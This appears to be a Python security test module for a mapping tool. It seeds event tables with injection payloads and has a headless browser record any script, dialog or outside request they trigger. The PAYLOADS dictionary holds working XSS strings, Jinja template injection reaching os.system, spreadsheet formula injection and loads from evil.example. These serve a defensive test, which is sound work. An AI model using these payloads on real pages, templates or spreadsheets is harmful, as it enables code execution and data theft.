"""Texts that try to run as code, tables full of them, and a browser that notices when one does."""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from itertools import pairwise
from pathlib import Path
from typing import Any

import geopandas as gpd
import numpy as np
import pandas as pd
import shapely

from frontier_geo.maps import clean_text

from .conftest import World, make_world

COMMAND = "cycler.__init__.__globals__.os.system('touch TRAP')"
RUN = "window.__pwned=(window.__pwned||0)+1;alert(1)"
ELSEWHERE = "https://evil.example"
#: By name, what a text may hold that a page, a template, a spreadsheet or a style sheet would run.
PAYLOADS = {
    "script": f"<script>{RUN}</script>",
    "closing": f"</script></textarea></title></style></template></noscript><script>{RUN}</script>",
    "closing with blanks": f"</script ><script >{RUN}</script >",
    "handler": f'<img src=x onerror="{RUN}">',
    "image elsewhere": f'<img src="{ELSEWHERE}/i.png" onload="{RUN}">',
    "svg": f'"><svg onload={RUN}><animate onbegin={RUN} attributeName=x dur=1s></svg>',
    "quote": f'\'+({RUN})+\'" autofocus onfocus="{RUN}" style="animation:a" x="',
    "javascript link": f"javascript:{RUN}",
    "hidden javascript link": f"java\tscript:{RUN}//https://a.org",
    "data link": f"data:text/html,<script>{RUN}</script>",
    "framed": f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    "object": f'<object data="{ELSEWHERE}/o"></object><embed src="{ELSEWHERE}/e">',
    "form": f'<form action="{ELSEWHERE}"><button autofocus onfocus="{RUN}">x</button></form>',
    "refresh": f'<meta http-equiv="refresh" content="0;url={ELSEWHERE}/r">',
    "base": f'<base href="{ELSEWHERE}/"><link rel="stylesheet" href="{ELSEWHERE}/l.css">',
    "style": f"</style><style>@import '{ELSEWHERE}/s.css';*{{background:url({ELSEWHERE}/b)}}",
    "style value": f"red;background:url({ELSEWHERE}/v);width:expression({RUN})",
    "comment": "<!--<script> --> <!-- <script \t",
    "section": "]]>&lt;b&gt;&#60;script&#62;<![CDATA[",
    "template literal": f"${{{RUN}}} `${{{RUN}}}`",
    "places of a text": "{n} {name} {title} {z} $& $1 $` %s %(n)s",
    "backslash": "back\\slash \\u003cscript\\u003e \\",
    "jinja expression": "{{ " + COMMAND + " }}",
    "jinja statement": "{% set x = " + COMMAND + " %}",
    "jinja loop": "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "jinja broken": "{% include 'x' %} {% if %} {{ 100 {{ %}",
    "jinja comment": "{# comment #} {#",
    "prototype": "__proto__",
    "constructor": "constructor",
    "formula": f'=HYPERLINK("{ELSEWHERE}/?"&A1,"x")',
    "formula command": "@SUM(1+1)*cmd|'/C calc'!A0",
    "line ends": "line\u2028separator\u2029end\ufeff",
    "turned round": "\u202eright to left\u202c \u2066isolate \u202d",
    "broken": "null\x00 bell\x07 lone\ud800 end\udfff",
    "a megabyte": "A<b>{{" * 175_000,
}
#: All columns of text of the event table.
EVENT_FIELDS = (
    "event_id", "date_precision", "event_type", "source_event_type", "actors", "scope", "place",
    "country", "country_side", "admin1", "admin2", "location_precision", "location_basis",
    "narcotics_detail", "weapons_seized", "summary", "source", "licence", "source_version",
    "confidence", "notes",
)  # fmt: skip
#: Of these the sheet of an incident has the text itself; the others are not shown, or as words.
SHOWN = (
    "event_id", "actors", "place", "admin1", "admin2", "location_basis", "narcotics_detail",
    "weapons_seized", "summary", "source", "licence", "notes",
)  # fmt: skip
#: Words of vocabularies, for which the page has no other words.
WORDS = ("event_type", "date_precision", "scope", "location_precision")
SEGMENT_FIELDS = ("tj_district", "af_district", "tj_province", "af_province", "terrain")
SIGNS = re.compile("[\u2066-\u2069\u200e\u200f]")  # of direction
LONGEST_TEXT = 2_000  # characters that a page keeps of one field


def kept(text: str) -> str:
    """Write a text as a page keeps it: whole but for control codes, cut where it is very long."""
    plain = clean_text(text)
    return plain if len(plain) <= LONGEST_TEXT else plain[:LONGEST_TEXT].rstrip() + " […]"


def texts(values: list[Any]) -> pd.Series:
    """Texts as plain objects: a column of pandas' own text cannot hold broken ones."""
    column = np.empty(len(values), dtype=object)
    column[:] = values
    return pd.Series(column, dtype=object)


def payloads_with(trap: Path) -> list[str]:
    """All payloads; what they would run on this machine makes a file there."""
    return [text.replace("TRAP", str(trap)) for text in PAYLOADS.values()]


def file_name(payload: str) -> str:
    """Name a file by a payload, as far as files can be named so."""
    return clean_text(payload).replace("/", "÷").encode()[:120].decode(errors="ignore") + ".html"


def laced(name: str, payload: str) -> str:
    """Mark a payload with the field it is in. The mark is at its end: its beginning does the harm."""
    return payload if payload in ("__proto__", "constructor") else f"{payload} ({name})"


@dataclass
class Attack:
    """Hostile tables: for each payload one dated incident, one without a date, one without a place."""

    world: World
    tables: dict[str, Any]
    payloads: list[str]
    fields: list[str] = field(default_factory=list)

    def page(self, **changes: Any) -> Any:
        """Draw them as a page."""
        return self.world.page(**{**self.tables, **changes})

    def map(self, **changes: Any) -> Any:
        """Draw them as a folium map."""
        return self.world.map(**{**self.tables, **changes})


def attack(trap: Path) -> Attack:
    """Put every payload into every text field of every table."""
    world = make_world()
    payloads = payloads_with(trap)
    kinds = {"dated": _points(world), "undated": _stretches(world), "nowhere": [None] * 99}
    events, located = [], []
    for kind, places in kinds.items():
        for row, (payload, place) in enumerate(zip(payloads, places, strict=False)):
            if kind != "dated" and len(payload) > LONGEST_TEXT:
                continue
            events.append(_event(kind, row, payload, place))
            located.append(_placed(kind, events[-1], payload, row))
    table = gpd.GeoDataFrame(
        {
            name: texts([event[name] for event in events])
            for name in events[0]
            if name != "geometry"
        },
        geometry=[event["geometry"] for event in events],
        crs="EPSG:4326",
    )
    tables = {
        "events": table,
        "located": pd.DataFrame(
            {name: texts([place[name] for place in located]) for name in located[0]}
        ),
        "rates": _rates(world, payloads),
        "areas": _areas(world, payloads),
        "referents": _referents(world, payloads),
        "frontages": _frontages(world, payloads),
        "period": ("2010-01-01", "2025-12-31"),
        "color_by": "a_rate",
    }
    fields = [f"events.{name}" for name in table.columns if name != "geometry"]
    fields += [f"rates.{name}" for name in ("segment_id", *SEGMENT_FIELDS)]
    for name in ("areas", "referents", "frontages"):
        fields += [f"{name}.{column}" for column in ("name", "kind", "country", "area_id")
                   if column in tables[name]]  # fmt: skip
    return Attack(world, tables, payloads, [*fields, "located.reason", "a column's name"])


def _points(world: World) -> list[Any]:
    return [world.boundary.point_at(4.0 + 5 * row) for row in range(60)]


def _stretches(world: World) -> list[Any]:
    return [world.boundary.substring(4.0 * row, 4.0 * row + 30) for row in range(60)]


def _event(kind: str, row: int, payload: str, place: Any) -> dict[str, Any]:
    event = {name: laced(name, payload) for name in EVENT_FIELDS}
    event["event_id"] = f"{payload} ({kind} {row})"  # each has its own
    if kind != "dated":
        event["location_precision"] = "district" if kind == "undated" else "country"
    dated = kind == "dated"
    event |= {
        "date_start": f"20{10 + row % 15}-03-0{1 + row % 9}" if dated else laced("date", payload),
        "date_end": None,
        "source_urls": [
            payload, f"https://a.org/{payload}", f"javascript://a.org/%0A{payload}", "http://b.org",
        ],
        "source_dates": [laced("source_dates", payload)] * 4,
        "geometry": place,
        "frontage_from_km": 4.0 * row if kind == "undated" else None,
        "frontage_to_km": 4.0 * row + 30 if kind == "undated" else None,
    }  # fmt: skip
    return event


def _placed(kind: str, event: dict[str, Any], payload: str, row: int) -> dict[str, Any]:
    return {
        "event_id": event["event_id"],
        "candidate": 0,
        "placement": {"dated": "point", "undated": "frontage", "nowhere": "unplaced"}[kind],
        "reason": laced("reason", payload),
        "chainage_km": 4.0 + 5 * row if kind == "dated" else None,
        "distance_km": 0.0 if kind == "dated" else None,
        "side": "TJ",
        "side_certain": False,
        "frontage_from_km": event["frontage_from_km"],
        "frontage_to_km": event["frontage_to_km"],
    }


def _rates(world: World, payloads: list[str]) -> gpd.GeoDataFrame:
    """A segment for each payload, and a column of that name."""
    from frontier_geo import make_segments

    rates = make_segments(world.boundary, length_km=world.boundary.length_km / len(payloads) - 1e-6)
    rates = rates.iloc[: len(payloads)].copy()
    for column in ("segment_id", *SEGMENT_FIELDS):
        rates[column] = texts([laced(column, payload) for payload in payloads])
    rates["a_rate"] = np.arange(len(rates)) / 7
    for payload in payloads:  # names of columns, as pandas can hold them
        rates[payload.encode("utf-8", "replace").decode()] = np.arange(len(rates)) / 3
    rates.attrs = {"period": ["2010-01-01", "2025-12-31"], "accounting": {
        "set_aside": {laced("set_aside", payload): 3 for payload in payloads}}}  # fmt: skip
    return rates


def _areas(world: World, payloads: list[str]) -> gpd.GeoDataFrame:
    west, _, east, _ = world.boundary.geometry.bounds
    edges = np.linspace(west, east, len(payloads) + 1)
    table = {
        name: texts([laced(f"area_{name}", payload) for payload in payloads])
        for name in ("name", "kind", "country", "area_id")
    }
    shapes = [shapely.box(left, 36.2, right, 36.7) for left, right in pairwise(edges)]
    return gpd.GeoDataFrame(table, geometry=shapes, crs="EPSG:4326")


def _referents(world: World, payloads: list[str]) -> pd.DataFrame:
    at = [8.0 * row + 2 for row in range(len(payloads))]
    points = [world.boundary.point_at(km) for km in at]
    return pd.DataFrame(
        {
            "referent_id": [str(row) for row in range(len(payloads))],
            "name": texts([laced("referent_name", payload) for payload in payloads]),
            "kind": texts([laced("referent_kind", payload) for payload in payloads]),
            "lon": [point.x for point in points],
            "lat": [point.y for point in points],
            "from_km": at,
            "to_km": at,
        }
    )


def _frontages(world: World, payloads: list[str]) -> pd.DataFrame:
    rows = range(len(payloads))
    return pd.DataFrame(
        {
            "place_id": [str(row) for row in rows],
            "name": texts([laced("frontage", payload) for payload in payloads]),
            "country": ["TJ" if row % 2 else "AF" for row in rows],
            "from_km": [4.0 * row for row in rows],
            "to_km": [4.0 * row + 30 for row in rows],
        }
    )


# Runs before anything of the page: notes what its policy refuses, and what is written on canvases.
WATCH = """
window.refused = [];
window.written = new Set();
document.addEventListener('securitypolicyviolation', (event) => {
  window.refused.push(event.violatedDirective + ' ' + event.blockedURI);
});
const { fillText, strokeText } = CanvasRenderingContext2D.prototype;
CanvasRenderingContext2D.prototype.fillText = function (text, ...rest) {
  window.written.add(text);
  return fillText.call(this, text, ...rest);
};
CanvasRenderingContext2D.prototype.strokeText = function (text, ...rest) {
  window.written.add(text);
  return strokeText.call(this, text, ...rest);
};
"""
# Elements and attributes that no page of ours has: whatever is found came out of a text.
STRANGERS = r"""() => {
  const odd = 'iframe, object, embed, base, link, form, meta[http-equiv=refresh], svg animate, ' +
    'img[src^=http], img[src=x], [autofocus], textarea:not(.fg-save-text), body script[src]';
  const found = [...document.querySelectorAll(odd)];
  for (const element of document.querySelectorAll('*')) {
    for (const { name, value } of element.attributes) {
      if (/^on/i.test(name) || /^\s*(javascript|data|vbscript):/i.test(value)) {
        if (!(element.localName === 'img' && /^data:image/.test(value))) found.push(element);
      }
    }
    if (element.localName === 'a' && element.hasAttribute('href') &&
        !/^(https?:\/\/|#|blob:)/.test(element.getAttribute('href'))) found.push(element);
  }
  return found.map((element) => element.outerHTML.slice(0, 200));
}"""


class Trapped:
    """A page open in a browser that notes all that a hostile text could do."""

    def __init__(self, browser: Any, address: str, *, size: tuple[int, int] = (1440, 900),
                 ready: str = ".fg-root[data-ready='1']", **options: Any) -> None:  # fmt: skip
        width, height = size
        self.context = browser.new_context(
            viewport={"width": width, "height": height}, offline=True, reduced_motion="reduce",
            accept_downloads=True, **options,
        )  # fmt: skip
        self.dialogs: list[str] = []
        self.requests: list[str] = []
        self.messages: list[str] = []
        self.visited: list[str] = []
        self.context.add_init_script(WATCH)
        self.page = self.context.new_page()
        self.page.set_default_timeout(10_000)
        self.page.on("dialog", self._asked)
        self.page.on("request", lambda request: self.requests.append(request.url))
        self.page.on("framenavigated", lambda frame: self.visited.append(frame.url))
        self.page.on("console", self._heard)
        self.page.on("pageerror", lambda error: self.messages.append(f"uncaught: {error}"))
        self.ready = ready
        self.open(address)

    def open(self, address: str) -> None:
        """Go to a page, anew, and forget what was before."""
        for noted in (self.dialogs, self.requests, self.messages, self.visited):
            noted.clear()
        self.address = address
        self.page.goto(address)
        if self.ready:
            self.page.wait_for_selector(self.ready, timeout=30_000)

    def _asked(self, dialog: Any) -> None:
        self.dialogs.append(dialog.message)
        dialog.dismiss()

    def _heard(self, message: Any) -> None:
        if message.type in ("error", "warning"):
            self.messages.append(f"{message.type}: {message.text}")

    def harm(self) -> dict[str, Any]:
        """All that went wrong, by kind; nothing where the texts stayed texts."""
        own = self.address.partition("#")[0]
        found = {
            "ran": self.page.evaluate("window.__pwned"),
            "dialogs": self.dialogs,
            "requests": [
                url for url in self.requests if not url.startswith((own, "data:", "blob:"))
            ],
            "refused": self.page.evaluate("window.refused"),
            "went": [url for url in self.visited if not url.startswith((own, "about:blank"))],
            "opened": [page.url for page in self.context.pages if page is not self.page],
            "strangers": self.page.evaluate(STRANGERS),
            "messages": self.messages,
        }
        return {kind: what for kind, what in found.items() if what}

    def text(self, selector: str) -> str:
        """All text that stands in an element, as it is."""
        return self.page.locator(selector).first.evaluate("(element) => element.textContent")

    def close(self) -> None:
        """Close the page."""
        self.context.close()


def lacking(text: str, wanted: list[str]) -> list[str]:
    """Return which of the wanted texts do not stand in a text, as a page keeps them."""
    plain = SIGNS.sub("", text)
    return [one[:80] for one in wanted if SIGNS.sub("", kept(one)) not in plain]
